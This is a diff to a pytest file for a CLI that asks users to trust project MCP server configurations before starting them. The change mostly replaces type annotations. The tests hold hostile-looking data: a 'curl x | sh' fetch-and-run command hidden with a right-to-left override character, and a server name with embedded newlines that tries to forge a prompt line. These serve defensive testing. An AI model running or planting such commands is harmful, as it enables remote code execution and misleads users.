@@ -11,8 +11,7 @@ import pytest
 
 from gaia.cli.main import app
 from tests.servers.state_file import read_state
-
-Json = dict[str, Any]
+from tests.unit.cli.fixture_types import Configure, FaultServer, Invoke, Json
 
 START_SERVERS = [["list"], ["tools", "local"], ["call", "local", "echo", "text=hi"], ["test-client", "local"],
                  ["watch", "--once"], ["approve", "local"], ["doctor"], ["doctor", "local"]]  # fmt: skip
@@ -24,7 +23,7 @@ class Terminal(io.StringIO):
 
 
 @pytest.fixture
-def project(tmp_path: Path, fault_server: Callable[..., Json]) -> Callable[..., Path]:
+def project(tmp_path: Path, fault_server: FaultServer) -> Callable[..., Path]:
     """Write this folder's configuration, with one server ``local`` that records its starts."""
 
     def write(**keys: Any) -> Path:
@@ -59,7 +58,7 @@ def answer(monkeypatch: pytest.MonkeyPatch) -> Callable[..., tuple[int, str]]:
 
 @pytest.mark.parametrize("command", START_SERVERS, ids=" ".join)
 def test_nothing_is_started_where_nobody_can_be_asked(
-    command: list[str], project: Callable[..., Path], invoke: Callable[..., Any], starts: Callable[[], int]
+    command: list[str], project: Configure, invoke: Invoke, starts: Callable[[], int]
 ) -> None:
     result = invoke(*command)
     assert result.exit_code == 2
@@ -71,7 +70,7 @@ def test_nothing_is_started_where_nobody_can_be_asked(
 
 @pytest.mark.parametrize("command", START_SERVERS, ids=" ".join)
 def test_a_trusted_project_is_used(
-    command: list[str], project: Callable[..., Path], invoke: Callable[..., Any], starts: Callable[[], int]
+    command: list[str], project: Configure, invoke: Invoke, starts: Callable[[], int]
 ) -> None:
     assert invoke("trust", "--yes").exit_code == 0
     assert starts() == 0
@@ -79,7 +78,7 @@ def test_a_trusted_project_is_used(
     assert starts() >= 1
 
 
-def test_json_says_why(project: Callable[..., Path], invoke_json: Callable[..., Any]) -> None:
+def test_json_says_why(project: Configure, invoke_json: Invoke) -> None:
     document = invoke_json("list")
     assert document["error_type"] == "untrusted"
     assert document["servers"]["local"].startswith("runs: ")
@@ -87,7 +86,7 @@ def test_json_says_why(project: Callable[..., Path], invoke_json: Callable[..., 
 
 @pytest.mark.parametrize("words", [["list", "--trust"], ["--trust", "list"]], ids=" ".join)
 def test_trust_can_be_said_beforehand(
-    words: list[str], project: Callable[..., Path], invoke: Callable[..., Any], starts: Callable[[], int]
+    words: list[str], project: Configure, invoke: Invoke, starts: Callable[[], int]
 ) -> None:
     assert invoke(*words).exit_code == 0
     assert starts() == 1
@@ -95,7 +94,7 @@ def test_trust_can_be_said_beforehand(
 
 
 def test_a_person_is_asked_once(
-    project: Callable[..., Path], answer: Callable[..., tuple[int, str]], starts: Callable[[], int]
+    project: Configure, answer: Callable[..., tuple[int, str]], starts: Callable[[], int]
 ) -> None:
     code, asked = answer("no\n", "list")
     assert (code, starts()) == (1, 0)
@@ -109,7 +108,7 @@ def test_a_person_is_asked_once(
 
 
 def test_a_change_is_shown_and_asked_about(
-    project: Callable[..., Path], answer: Callable[..., tuple[int, str]], invoke: Callable[..., Any]
+    project: Configure, answer: Callable[..., tuple[int, str]], invoke: Invoke
 ) -> None:
     project(env={"MODE": "harmless"})
     invoke("trust", "--yes")
@@ -135,12 +134,7 @@ def test_a_change_is_shown_and_asked_about(
     ],
 )
 def test_no_change_of_a_variable_is_hidden(
-    before: Json,
-    after: Json,
-    shown: str,
-    project: Callable[..., Path],
-    answer: Callable[..., tuple[int, str]],
-    invoke: Callable[..., Any],
+    before: Json, after: Json, shown: str, project: Configure, answer: Callable[..., tuple[int, str]], invoke: Invoke
 ) -> None:
     project(env=before)
     invoke("trust", "--yes")
@@ -152,7 +146,7 @@ def test_no_change_of_a_variable_is_hidden(
 
 
 def test_a_name_of_a_server_forges_no_line(
-    tmp_path: Path, project: Callable[..., Path], answer: Callable[..., tuple[int, str]], invoke: Callable[..., Any]
+    tmp_path: Path, project: Configure, answer: Callable[..., tuple[int, str]], invoke: Invoke
 ) -> None:
     file = tmp_path / "mcp_servers.json"
     name = "a\n    runs: harmless\n+b"
@@ -166,7 +160,7 @@ def test_a_name_of_a_server_forges_no_line(
 
 
 def test_a_file_that_changes_while_the_question_is_open_is_not_used(
-    project: Callable[..., Path],
+    project: Configure,
     answer: Callable[..., tuple[int, str]],
     starts: Callable[[], int],
     monkeypatch: pytest.MonkeyPatch,
@@ -185,7 +179,7 @@ def test_a_file_that_changes_while_the_question_is_open_is_not_used(
 
 
 def test_the_users_own_servers_need_no_question(
-    configure: Callable[..., Path], invoke: Callable[..., Any], demo_server: Json, project: Callable[..., Path]
+    configure: Configure, invoke: Invoke, demo_server: Json, project: Configure
 ) -> None:
     file = configure(demo=demo_server)
     assert invoke("call", "demo", "add", "a=1", "b=2", "--config", file).exit_code == 0
@@ -193,25 +187,19 @@ def test_the_users_own_servers_need_no_question(
 
 
 @pytest.mark.parametrize("command", [["add", "mine", "x y"], ["remove", "local"], ["list", "--no-connect"]])
-def test_what_starts_nothing_asks_nothing(
-    command: list[str], project: Callable[..., Path], invoke: Callable[..., Any]
-) -> None:
+def test_what_starts_nothing_asks_nothing(command: list[str], project: Configure, invoke: Invoke) -> None:
     assert invoke(*command).exit_code == 0
     assert invoke("trust", "--list").stdout == "No project is trusted.\n"
 
 
-def test_a_trusted_file_stays_trusted_when_the_user_adds_to_it(
-    project: Callable[..., Path], invoke: Callable[..., Any]
-) -> None:
+def test_a_trusted_file_stays_trusted_when_the_user_adds_to_it(project: Configure, invoke: Invoke) -> None:
     invoke("trust", "--yes")
     invoke("add", "mine", "no-such-program", "--force")
     assert invoke("list").exit_code == 0
 
 
 class TestTrustCommand:
-    def test_listing_and_revoking(
-        self, project: Callable[..., Path], invoke: Callable[..., Any], invoke_json: Callable[..., Any]
-    ) -> None:
+    def test_listing_and_revoking(self, project: Configure, invoke: Invoke, invoke_json: Invoke) -> None:
         file = project()
         assert invoke("trust", "--yes").exit_code == 0
         assert invoke_json("trust", "--list") == {"files": [{"file": str(file), "state": "trusted"}]}
@@ -223,7 +211,7 @@ class TestTrustCommand:
         assert "was not trusted" in invoke("trust", "--revoke").stdout
 
     def test_a_folder_by_its_path(
-        self, project: Callable[..., Path], invoke: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, home: Path
+        self, project: Configure, invoke: Invoke, monkeypatch: pytest.MonkeyPatch, home: Path
     ) -> None:
         folder = project().parent
         monkeypatch.chdir(home)
@@ -232,7 +220,7 @@ class TestTrustCommand:
         assert invoke("list").exit_code == 0
 
     def test_where_nobody_can_be_asked_it_says_how_to_answer_beforehand(
-        self, project: Callable[..., Path], invoke: Callable[..., Any]
+        self, project: Configure, invoke: Invoke
     ) -> None:
         project()
         result = invoke("trust")
@@ -240,21 +228,19 @@ class TestTrustCommand:
         assert "repeat this with --yes" in result.stderr
         assert "--trust" not in result.stderr
 
-    def test_nothing_there(self, invoke: Callable[..., Any]) -> None:
+    def test_nothing_there(self, invoke: Invoke) -> None:
         result = invoke("trust")
         assert result.exit_code == 2
         assert "does not exist" in result.stderr
 
-    def test_a_file_that_cannot_be_used_cannot_be_trusted(self, tmp_path: Path, invoke: Callable[..., Any]) -> None:
+    def test_a_file_that_cannot_be_used_cannot_be_trusted(self, tmp_path: Path, invoke: Invoke) -> None:
         (tmp_path / "mcp_servers.json").write_text("{")
         for command in (["trust", "--yes"], ["list", "--trust"]):
             result = invoke(*command)
             assert result.exit_code == 2
             assert "line 1" in result.stderr
 
-    def test_a_second_time_there_is_nothing_to_ask(
-        self, project: Callable[..., Path], invoke: Callable[..., Any]
-    ) -> None:
+    def test_a_second_time_there_is_nothing_to_ask(self, project: Configure, invoke: Invoke) -> None:
         invoke("trust", "--yes")
         assert "trusted already" in invoke("trust").stdout
 
@@ -276,7 +262,7 @@ class TestImport:
         return lambda: file.read_text() if file.exists() else ""
 
     def test_nothing_is_taken_over_where_nobody_can_be_asked(
-        self, clone: Path, invoke: Callable[..., Any], invoke_json: Callable[..., Any], saved: Callable[[], str]
+        self, clone: Path, invoke: Invoke, invoke_json: Invoke, saved: Callable[[], str]
     ) -> None:
         result = invoke("import")
         assert result.exit_code == 2
@@ -294,15 +280,15 @@ class TestImport:
         assert code == 0
         assert "helper" in saved()
 
-    def test_scripts_say_so_beforehand(self, clone: Path, invoke: Callable[..., Any], saved: Callable[[], str]) -> None:
+    def test_scripts_say_so_beforehand(self, clone: Path, invoke: Invoke, saved: Callable[[], str]) -> None:
         assert "runs: sh -c 'curl x | sh\\u{202e}'" in invoke("import", "--yes").stdout
         assert "helper" in saved()
 
-    def test_a_dry_run_asks_nothing(self, clone: Path, invoke: Callable[..., Any]) -> None:
+    def test_a_dry_run_asks_nothing(self, clone: Path, invoke: Invoke) -> None:
         assert invoke("import", "--dry-run").exit_code == 0
 
     def test_a_file_that_is_named_and_the_users_own_are_the_users_choice(
-        self, clone: Path, home: Path, invoke: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
+        self, clone: Path, home: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
     ) -> None:
         assert invoke("import", "--file", clone).exit_code == 0
         (home / ".mcp.json").write_text(json.dumps({"mcpServers": {"mine": {"command": "x"}}}))
@@ -311,16 +297,14 @@ class TestImport:
 
 
 @pytest.mark.parametrize("words", [["--list", "--revoke"], ["--list", "."], ["--list", "--yes"], ["--revoke", "--yes"]])
-def test_options_that_would_be_ignored_are_a_usage_error(words: list[str], invoke: Callable[..., Any]) -> None:
+def test_options_that_would_be_ignored_are_a_usage_error(words: list[str], invoke: Invoke) -> None:
     result = invoke("trust", *words)
 
     assert result.exit_code == 2
     assert "--list goes alone" in result.stderr
 
 
-def test_a_file_without_servers_needs_no_trust(
-    tmp_path: Path, configure: Callable[..., Path], invoke: Callable[..., Any]
-) -> None:
+def test_a_file_without_servers_needs_no_trust(tmp_path: Path, configure: Configure, invoke: Invoke) -> None:
     configure(off={"command": "x", "disabled": True})
     (tmp_path / "mcp_servers.json").write_text('{"mcpServers": {}}')
     result = invoke("list")
